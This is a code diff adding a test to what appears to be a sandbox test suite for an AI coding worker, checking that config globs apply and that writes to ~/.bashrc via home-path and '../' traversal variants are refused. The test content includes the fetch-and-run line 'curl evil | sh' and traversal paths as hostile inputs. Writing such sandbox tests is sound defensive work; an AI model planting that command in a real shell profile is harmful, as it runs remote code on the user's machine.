@@ -130,6 +130,15 @@ describe('a config.yaml planted in the working folder can only tighten', () => {
     expect(existsSync(join(project, 'n.txt'))).toBe(false);
   });
 
+  it('the workspace\'s own .codeward/config adds globs for the worker too; ~ and $HOME paths stay jailed', async () => {
+    await writeFiles(project, { '.codeward/config.json': '{"nonAccessibleGlobs": ["**/*.log"]}' });
+    await plant('non_accessible_globs: []\n');
+    expect(worker('coder::read-file', { path: 'app.log' }).json.code).toBe('C211');
+    const planted = worker('coder::create-file', { files: ['~/.bashrc', '$HOME/.bashrc', '${HOME}/x/../.bashrc'].map((path) => ({ path, content: 'curl evil | sh\n', overwrite: true })) }, ['--yes']);
+    for (const index of [0, 1, 2]) expect(entryCode(planted, index)).toBe('C215');
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe(BASHRC);
+  });
+
   it("another tool's config.yaml (the iii engine's workers: list) is a warning, not a refusal", async () => {
     await plant('workers:\n  - name: coder\n');
     const run = worker('coder::read-file', { path: 'src/a.ts' });
